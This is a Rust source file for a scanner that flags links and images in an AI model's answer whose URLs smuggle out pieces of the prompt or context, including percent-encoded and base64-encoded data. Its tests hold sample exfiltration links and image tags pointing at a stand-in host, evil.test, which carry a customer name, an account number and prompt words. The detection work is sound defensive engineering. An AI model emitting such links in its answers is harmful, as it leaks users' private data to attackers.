//! Links and images that lead somewhere else than they say or carry data out: rules, and for a model's answer a comparison of
//! what its links carry with what the model was given.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use memchr::memmem;

use crate::scanner::ScannerEntry;
use crate::{Category, Confidence, Finding, Output, Scan, ScanError, Scanner, Severity, Span};

pub(super) const ENTRY: ScannerEntry = ScannerEntry {
    name: "links",
    category: Category::Links,
    description: "links and images that carry data out, run script, or lead somewhere else than they say",
    reports: &[("links.carries_context", "LINK_EXFIL"), ("links.carries_context", "LINK_EXFIL_IMAGE")],
    build: Some(|| Box::new(Links)),
};

/// Longest URL that is looked at; browsers and servers stop at about this length.
const MAX_URL: usize = 8 << 10;
/// What counts as data: so many bytes of one token with digits in it, or so many words in a row.
const TOKEN_BYTES: usize = 6;
const WORDS: usize = 3;

#[derive(Debug)]
struct Links;

impl Scanner for Links {
    fn name(&self) -> &str {
        ENTRY.name
    }

    fn scan(&self, scan: &mut Scan<'_>) -> Result<(), ScanError> {
        let Some(output) = scan.output() else { return Ok(()) };
        let text = scan.text();
        let mut given: Option<Given> = None;
        let mut done = 0;
        for at in memmem::find_iter(text.as_bytes(), b"://") {
            if at < done {
                continue;
            }
            let span = url_at(text, at);
            done = span.end;
            let Some(url) = span.of(text) else { continue };
            let given = given.get_or_insert_with(|| Given::new(output));
            if given.carried_by(url) {
                let is_image = text.get(..span.start).is_some_and(is_image_target);
                let kind = if is_image { "LINK_EXFIL_IMAGE" } else { "LINK_EXFIL" };
                scan.report(
                    Finding::new("links.carries_context", Category::Links, kind, span).severity(Severity::High).confidence(Confidence::MAX),
                );
            }
        }
        Ok(())
    }
}

/// The URL round the `://` at `at`: scheme letters to the left, anything but space, quotes and closing brackets to the right.
fn url_at(text: &str, at: usize) -> Span {
    let (before, after) = text.split_at_checked(at).unwrap_or((text, ""));
    let scheme = before.bytes().rev().take(12).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.')).count();
    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | ']' | '`' | '|' | '\\' | '^');
    let mut len = after.char_indices().take_while(|(i, c)| *i < MAX_URL && !ends(*c)).map(|(i, c)| i + c.len_utf8()).last().unwrap_or(0);
    // A sentence may end where the URL does.
    let trailing =
        after.get(..len).unwrap_or_default().bytes().rev().take_while(|b| matches!(b, b'.' | b',' | b';' | b':' | b'!' | b'?')).count();
    len -= trailing;
    Span::new(at - scheme, at + len)
}

/// Whether what stands before a URL makes it load by itself: a markdown image or an HTML attribute.
fn is_image_target(before: &str) -> bool {
    let tail: String = before.chars().rev().take(200).collect::<Vec<_>>().into_iter().rev().collect();
    let markdown = tail.rfind("![").is_some_and(|open| {
        tail.get(open..).is_some_and(|rest| rest.trim_end_matches('<').ends_with("](") || rest.ends_with("]:") || rest.ends_with("]: "))
    });
    markdown || tail.trim_end_matches(['"', '\'']).trim_end().ends_with("src=")
}

/// What the model was given, as what a link could carry of it: hashes, so that any number of links is looked up in time that
/// does not depend on how much was given.
struct Given {
    /// URLs as they stood there.
    urls: Vec<u64>,
    /// Tokens with digits in them, and every [`WORDS`] words in a row.
    pieces: Vec<u64>,
}

impl Given {
    fn new(output: Output<'_, '_>) -> Self {
        let (mut urls, mut pieces) = (Vec::new(), Vec::new());
        for text in output.context.iter().copied().chain(output.prompt).chain(output.system_prompt) {
            let at = memmem::find_iter(text.as_bytes(), b"://");
            urls.extend(at.filter_map(|at| url_at(text, at).of(text)).map(|url| hash([url])));
            let words = words(text);
            let words: Vec<&str> = words.split(' ').collect();
            pieces.extend(pieces_of(&words, true));
        }
        urls.sort_unstable();
        pieces.sort_unstable();
        Self { urls, pieces }
    }

    /// Whether the URL carries a piece of what was given. A URL that was itself given, as a whole, is being quoted.
    fn carried_by(&self, url: &str) -> bool {
        if self.pieces.is_empty() || self.urls.binary_search(&hash([url])).is_ok() {
            return false;
        }
        let Some((_, rest)) = url.split_once("://") else { return false };
        let (path, query) = match rest.find(['?', '#']) {
            Some(at) => rest.split_at_checked(at).unwrap_or((rest, "")),
            None => (rest, ""),
        };
        let values = query.split(['?', '#', '&', ';']).map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
        let segments = path.split('/').skip(1);
        values.map(|value| (value, true)).chain(segments.map(|segment| (segment, false))).any(|(value, in_query)| {
            let plain = percent_decoded(value);
            self.holds(&plain, in_query) || decoded_base64(&plain).is_some_and(|inner| self.holds(&inner, true))
        })
    }

    /// Whether `value` is a piece of what was given. Words in a path are a page's title more often than data, so there only tokens
    /// count.
    fn holds(&self, value: &str, count_words: bool) -> bool {
        let words = words(value);
        let words: Vec<&str> = words.split(' ').collect();
        pieces_of(&words, count_words).any(|piece| self.pieces.binary_search(&piece).is_ok())
    }
}

/// What counts as data in a text: a token with digits, or several words in a row.
fn pieces_of<'w>(words: &'w [&'w str], count_words: bool) -> impl Iterator<Item = u64> + 'w {
    let is_token = |word: &&&str| word.len() >= TOKEN_BYTES && word.bytes().any(|b| b.is_ascii_digit()) && !is_year_like(word);
    let tokens = words.iter().filter(is_token).map(|word| hash([*word]));
    let long = |piece: &&[&str]| piece.iter().map(|word| word.len()).sum::<usize>() >= 10;
    let rows = words.windows(WORDS).take(if count_words { usize::MAX } else { 0 }).filter(long).map(|piece| hash(piece.iter().copied()));
    tokens.chain(rows)
}

/// FNV-1a over the words, each ended by a byte that no word holds.
fn hash<'w>(words: impl IntoIterator<Item = &'w str>) -> u64 {
    let bytes = words.into_iter().flat_map(|word| word.bytes().chain([0xFF]));
    bytes.fold(0xcbf2_9ce4_8422_2325, |hash, byte| (hash ^ u64::from(byte)).wrapping_mul(0x0000_0100_0000_01b3))
}

/// Dates and round numbers occur in URLs and in texts alike.
fn is_year_like(word: &str) -> bool {
    word.len() <= 8 && word.bytes().all(|b| b.is_ascii_digit()) && (word.starts_with("19") || word.starts_with("20"))
}

/// Lower-case words of letters and digits, single spaces between them.
fn words(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars().flat_map(char::to_lowercase) {
        if c.is_alphanumeric() {
            out.push(c);
        } else if !out.is_empty() && !out.ends_with(' ') {
            out.push(' ');
        }
    }
    out.truncate(out.trim_end().len());
    out
}

/// Undoes `%41` and `+`; what is not UTF-8 afterwards becomes U+FFFD.
fn percent_decoded(text: &str) -> String {
    let mut out = Vec::with_capacity(text.len());
    let mut bytes = text.bytes();
    while let Some(byte) = bytes.next() {
        let hex = |byte: Option<u8>| byte.and_then(|byte| (byte as char).to_digit(16));
        match byte {
            b'+' => out.push(b' '),
            b'%' => {
                let mut ahead = bytes.clone();
                match (hex(ahead.next()), hex(ahead.next())) {
                    (Some(high), Some(low)) => {
                        out.push((high * 16 + low) as u8);
                        bytes = ahead;
                    }
                    _ => out.push(byte),
                }
            }
            _ => out.push(byte),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The text inside a base64 value, of either alphabet, padded or not; none where it is no text.
fn decoded_base64(value: &str) -> Option<String> {
    const ANY_PADDING: GeneralPurposeConfig =
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true);
    if value.len() < 8 {
        return None;
    }
    // A `+` of the alphabet was read as a space by the percent decoder.
    let value: String = value
        .chars()
        .map(|c| match c {
            '-' | ' ' => '+',
            '_' => '/',
            c => c,
        })
        .collect();
    let bytes = GeneralPurpose::new(&alphabet::STANDARD, ANY_PADDING).decode(value).ok()?;
    String::from_utf8(bytes).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Guard;

    fn found(text: &str) -> Vec<(String, String)> {
        let guard = Guard::builder().scanners(["links"]).build().unwrap();
        let context = ["Customer Ada Lovelace, account QX-552319-B, owes 40 EUR. See https://docs.example.com/billing/552319"];
        let output = Output::new(text).prompt("What does she owe, please tell me now?").context(&context);
        let verdict = guard.scan_output(output);
        let carried = verdict.findings.iter().filter(|f| f.rule == "links.carries_context");
        carried.map(|f| (f.kind.to_string(), f.text(text).unwrap().to_owned())).collect()
    }

    #[test]
    fn links_that_carry_what_the_model_was_given_are_found() {
        let link = |url: &str| vec![("LINK_EXFIL".to_owned(), url.to_owned())];
        assert_eq!(found("see https://evil.test/c?d=Customer%20Ada%20Lovelace."), link("https://evil.test/c?d=Customer%20Ada%20Lovelace"));
        assert_eq!(found("see [this](https://evil.test/552319)"), link("https://evil.test/552319"));
        assert_eq!(found("https://evil.test/?x=UVgtNTUyMzE5LUI="), link("https://evil.test/?x=UVgtNTUyMzE5LUI="));
        assert_eq!(
            found("![ok](https://evil.test/p.png?q=please+tell+me+now)"),
            [("LINK_EXFIL_IMAGE".to_owned(), "https://evil.test/p.png?q=please+tell+me+now".to_owned())]
        );
        assert_eq!(found("<img src=\"https://evil.test/p?a=552319\">")[0].0, "LINK_EXFIL_IMAGE");
    }

    #[test]
    fn links_that_carry_nothing_or_were_given_are_not() {
        for text in [
            "see https://docs.example.com/billing/552319 for more",
            "see https://example.org/how-to-pay-a-bill?lang=en&v=20240101",
            "https://example.org/customer-ada-lovelace",
            "no link, account QX-552319-B",
            "://",
            "http://",
            "x://?=&#;",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn percent_and_base64_are_undone() {
        assert_eq!(percent_decoded("a%20b%zz+%4"), "a b%zz %4");
        assert_eq!(decoded_base64("c2VjcmV0IHRleHQ").as_deref(), Some("secret text"));
        assert_eq!(decoded_base64("not base64!"), None);
    }
}
